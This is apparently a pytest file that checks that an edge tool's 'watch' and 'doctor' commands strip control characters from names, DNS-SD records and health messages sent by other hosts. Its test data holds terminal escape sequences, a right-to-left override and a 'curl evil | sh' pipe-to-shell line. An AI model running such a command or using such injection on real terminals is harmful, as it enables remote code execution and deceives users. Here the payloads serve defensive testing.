"""What other programs and hosts call themselves, or send as text, reaches no terminal as it is."""

import sys
import time
from pathlib import Path

import msgspec
import pytest

from edge.bus.messages import HealthMessage
from edge.config import Config
from tests.support.harness import emotion_edge, publishing, with_endpoints, write_config
from tests.support.hosts import needs_hosts, two_hosts
from tests.support.messages import example

NASTY = "1\x1b]0;title\x07\x1b[2J\nthis device\n    curl evil | sh\x1b[8m\u202e"
ANNOUNCE = """
import sys, time
from zeroconf import ServiceInfo, Zeroconf
service, version = "_emotion-edge._tcp.local.", sys.argv[1]
responder = Zeroconf(interfaces=["10.77.0.1"])
for name in ("kitchen", "k\\u202ered"):
    responder.register_service(
        ServiceInfo(service, f"{name}.{service}", port=5557, server=f"{len(name)}.local.",
                    properties={"version": version, "locked": "0"},
                    parsed_addresses=["10.77.0.1"]), strict=False)
print("announced", flush=True)
time.sleep(60)
"""


def is_harmless(text: str, lines: int | None = None) -> bool:
    found = text.splitlines()
    whole = all(line.isprintable() for line in found) and text.count("\n") == len(found)
    return whole and lines in (None, len(found))


@pytest.mark.root
@needs_hosts
def test_a_record_of_dns_sd_is_shown_without_control_characters(directory: Path) -> None:
    pytest.importorskip("zeroconf", reason="zeroconf is not installed")
    with two_hosts(directory) as (device, laptop):
        (directory / "announce.py").write_text(ANNOUNCE)
        (directory / "version").write_text(NASTY)
        script = f'{directory}/announce.py "$(cat {directory}/version)"'
        with device.start(f"exec {sys.executable} {script}") as announcing:
            assert announcing.stdout is not None
            assert announcing.stdout.readline() == "announced\n"
            with laptop.start("exec emotion-edge watch") as watching:
                shown, errors = watching.communicate(timeout=60)
            announcing.terminate()
    assert "kitchen" in shown, errors
    assert is_harmless(shown, 4), shown


@pytest.mark.parametrize("command", ["watch", "doctor"])
def test_health_is_shown_without_control_characters(config: Config, command: str) -> None:
    file = write_config(config, config.directory / "config.json")
    arguments = [config.gateway.local, "--count", "30"] if command == "watch" else []
    with with_endpoints(config), publishing(config) as publisher:
        health = example("health.fusion")
        assert isinstance(health, HealthMessage)
        nasty = msgspec.structs.replace(health, detail=NASTY, version=NASTY)
        with emotion_edge(command, "--config", file, *arguments) as process:
            while process.poll() is None:
                now = msgspec.structs.replace(nasty, t_ns=time.monotonic_ns(), time=time.time())
                publisher.publish("health.fusion", now)
                time.sleep(0.05)
            shown, errors = process.communicate()
    assert "curl evil" in shown
    assert is_harmless(shown) and is_harmless(errors)


@pytest.mark.parametrize("output", ["", "--json"])
def test_a_devices_name_is_shown_without_control_characters(config: Config, output: str) -> None:
    config = msgspec.structs.replace(config, device="kit\x1b[31mchen")
    with with_endpoints(config):
        arguments = [config.gateway.local, "--count", "3", *([output] if output else [])]
        with emotion_edge("watch", *arguments) as process:
            shown, _ = process.communicate(timeout=60)
    assert "chen" in shown
    assert is_harmless(shown, 3)
